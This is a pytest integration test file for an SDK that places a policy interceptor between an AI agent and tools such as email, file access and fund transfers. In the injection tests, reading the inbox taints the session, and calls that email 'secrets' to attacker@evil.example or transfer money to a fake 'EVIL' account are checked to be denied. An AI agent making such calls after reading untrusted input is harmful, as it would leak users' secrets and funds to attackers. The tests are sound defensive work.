"""The SDK against the real services: tool server and interceptor as uvicorn processes, state in Redis."""

from __future__ import annotations

import asyncio
import hashlib
import json
import traceback
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
import yaml

from sentinel_cli.run import run_stack, start_interceptor, stop_processes
from sentinel_sdk import (
    AuthenticationError,
    InvalidArguments,
    PolicyDenied,
    RetryPolicy,
    SentinelClient,
    SentinelError,
    SentinelUnavailable,
    SessionExpired,
    SyncSentinelClient,
)
from tests.conftest import REDIS_URL, delete_keys, free_port

pytestmark = pytest.mark.redis

ROOT = Path(__file__).resolve().parents[2]
API_KEY = "sk-sentinel-live-" + uuid.uuid4().hex
POLICIES = {
    "staticRules": {
        "get_current_time": "ALLOW", "list_files": "ALLOW", "read_file": "ALLOW", "read_inbox": "ALLOW",
        "fetch_url": "ALLOW", "send_email": "ALLOW", "transfer_funds": "ALLOW", "delete_file": "DENY",
    },
    "taintRules": [
        {"type": "ADD_TAINT", "tool": "read_inbox", "tag": "untrusted"},
        {"type": "CHECK_TAINT", "tool": "send_email", "forbidden_tags": ["untrusted"]},
        {"type": "CHECK_TAINT", "tool": "transfer_funds", "forbidden_tags": ["untrusted"]},
    ],
}


@dataclass(frozen=True)
class Stack:
    url: str
    var: Path
    config: Path
    identity_seed: str
    prefix: str


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stack]:
    tmp = tmp_path_factory.mktemp("live")
    prefix = f"test:{uuid.uuid4().hex[:12]}:"
    example = yaml.safe_load((ROOT / "examples" / "sentinel.yaml").read_text())
    project = dict(example["projects"][0])
    project.update(name="live", api_key_sha256=hashlib.sha256(API_KEY.encode()).hexdigest(), policies=POLICIES)
    config = tmp / "sentinel.yaml"
    config.write_text(yaml.safe_dump({"projects": [project]}))
    try:
        with run_stack(config=str(config), var_dir=tmp, redis_url=REDIS_URL, redis_prefix=prefix) as running:
            yield Stack(url=running.interceptor_url, var=tmp, config=config, identity_seed=running.identity_seed, prefix=prefix)
    finally:
        delete_keys(prefix)


def client_for(stack: Stack, **options: object) -> SentinelClient:
    return SentinelClient(api_key=API_KEY, base_url=stack.url, **options)  # type: ignore[arg-type]


async def test_session_lists_the_projects_tools_and_ends(stack: Stack) -> None:
    async with client_for(stack) as client:
        sid = client.session_id
        names = [t.name for t in await client.list_tools()]
        assert names == [t.name for t in await client.list_tools(refresh=True)]
    assert sid and "send_email" in names and "read_inbox" in names
    # The ended session is gone on the server too.
    async with httpx.AsyncClient(base_url=stack.url) as raw:
        response = await raw.get(f"/session/{sid}/tools", headers={"X-Sentinel-Key": API_KEY})
    assert response.status_code == 404


async def test_an_allowed_call_returns_the_tools_output_and_joins_the_audit_trail(stack: Stack) -> None:
    async with client_for(stack) as client:
        assert (await client.call_tool("get_current_time", {"timezone": "UTC"}))["timezone"] == "UTC"
        result = await client.call_tool_result("list_files", {"directory": "."})
    assert not result.is_error and result.jti and result.rule
    mcp_audit = (stack.var / "mcp-audit.jsonl").read_text()
    assert result.jti in mcp_audit


async def test_a_static_deny_raises_policy_denied(stack: Stack) -> None:
    async with client_for(stack) as client:
        with pytest.raises(PolicyDenied) as info:
            await client.call_tool("delete_file", {"path": "reports/q3_summary.txt"})
    assert info.value.rule and info.value.reason


async def test_the_injection_cannot_exfiltrate_after_reading_the_inbox(stack: Stack) -> None:
    async with client_for(stack) as client:
        await client.call_tool("send_email", {"to": "team@example.com", "subject": "hi", "body": "before any untrusted input"})
        await client.call_tool("read_inbox", {"limit": 1})
        with pytest.raises(PolicyDenied) as info:
            await client.call_tool("send_email", {"to": "attacker@evil.example", "subject": "keys", "body": "secrets"})
        assert "send_email" in info.value.rule and "untrusted" in info.value.reason
        with pytest.raises(PolicyDenied):
            await client.call_tool("transfer_funds", {"to_iban": "XX13EVIL000066666666", "amount": 5000})
    outbox = (stack.var / "mcp-data" / "outbox.jsonl").read_text()
    assert "team@example.com" in outbox and "attacker@evil.example" not in outbox


async def test_langchain_tools_return_results_and_denials_as_messages(stack: Stack) -> None:
    async with client_for(stack) as client:
        tools = {t.name: t for t in await client.get_langchain_tools()}
        assert tools["send_email"].args  # the tool server's JSON schema
        inbox = await tools["read_inbox"].ainvoke({"limit": 1})
        assert "emails" in json.loads(inbox)
        blocked = await asyncio.to_thread(tools["send_email"].invoke, {"to": "a@evil.example", "subject": "s", "body": "b"})
    assert blocked.startswith("Sentinel blocked this call (rule ")


def test_the_sync_client_runs_a_session(stack: Stack) -> None:
    with SyncSentinelClient(api_key=API_KEY, base_url=stack.url) as client:
        assert client.call_tool("get_current_time", {"timezone": "UTC"})["timezone"] == "UTC"
        (send,) = [t for t in client.get_langchain_tools(on_denied="message") if t.name == "send_email"]
        client.call_tool("read_inbox", {"limit": 1})
        assert send.invoke({"to": "x@evil.example", "subject": "s", "body": "b"}).startswith("Sentinel blocked")


async def test_a_wrong_key_is_refused(stack: Stack) -> None:
    with pytest.raises(AuthenticationError):
        async with SentinelClient(api_key="sk-sentinel-wrong", base_url=stack.url):
            pass


async def test_a_session_ended_elsewhere_raises_session_expired(stack: Stack) -> None:
    async with client_for(stack) as client:
        async with httpx.AsyncClient(base_url=stack.url) as raw:
            await raw.post(f"/session/{client.session_id}/end", headers={"X-Sentinel-Key": API_KEY})
        with pytest.raises(SessionExpired):
            await client.call_tool("get_current_time", {"timezone": "UTC"})


async def test_an_unreachable_tool_server_fails_closed(stack: Stack) -> None:
    url, proc = start_interceptor(
        identity_seed=stack.identity_seed, mcp_url=f"http://127.0.0.1:{free_port()}", config=str(stack.config),
        var_dir=stack.var, redis_url=REDIS_URL, redis_prefix=stack.prefix + "down:", audit_log=stack.var / "down.jsonl",
    )
    try:
        with pytest.raises(SentinelUnavailable) as info:
            async with SentinelClient(api_key=API_KEY, base_url=url, retry=RetryPolicy(max_attempts=2, base_delay=0.05)):
                pass
        assert info.value.status == 502
    finally:
        stop_processes([proc])


async def test_an_unreachable_interceptor_raises_sentinel_unavailable() -> None:
    client = SentinelClient(api_key=API_KEY, base_url=f"http://127.0.0.1:{free_port()}", retry=RetryPolicy(max_attempts=2, base_delay=0.01))
    with pytest.raises(SentinelUnavailable):
        await client.start()


async def test_arguments_the_tools_schema_refuses_raise_invalid_arguments_and_reach_the_model(stack: Stack) -> None:
    async with client_for(stack) as client:
        with pytest.raises(InvalidArguments) as info:
            await client.call_tool("get_current_time", {"timezone": 5})
        assert info.value.status == 400 and "argument 'timezone'" in str(info.value)
        with pytest.raises(InvalidArguments):
            await client.call_tool("transfer_funds", {"to_iban": "DE89370400440532013000", "amount": float("nan")})
        (read_file,) = [t for t in await client.get_langchain_tools() if t.name == "read_file"]
        message = await read_file.ainvoke({"type": "tool_call", "id": "c1", "name": "read_file", "args": {}})
    assert message.status == "error" and "missing argument 'path'" in message.content


async def test_a_key_with_a_trailing_newline_works_and_never_reaches_a_traceback(stack: Stack) -> None:
    async with SentinelClient(api_key=API_KEY + "\n", base_url=stack.url) as client:
        assert client.session_id
    with pytest.raises(AuthenticationError) as info:
        SentinelClient(api_key=API_KEY[:10] + "\n" + API_KEY[10:], base_url=stack.url)
    assert API_KEY[10:] not in "".join(traceback.format_exception(info.value))


async def test_a_base_url_that_is_not_the_interceptor_says_so(stack: Stack) -> None:
    with pytest.raises(SentinelError) as info:
        async with SentinelClient(api_key=API_KEY, base_url=stack.url + "/v1"):
            pass
    assert info.value.code == "not_an_interceptor" and not isinstance(info.value, SessionExpired)
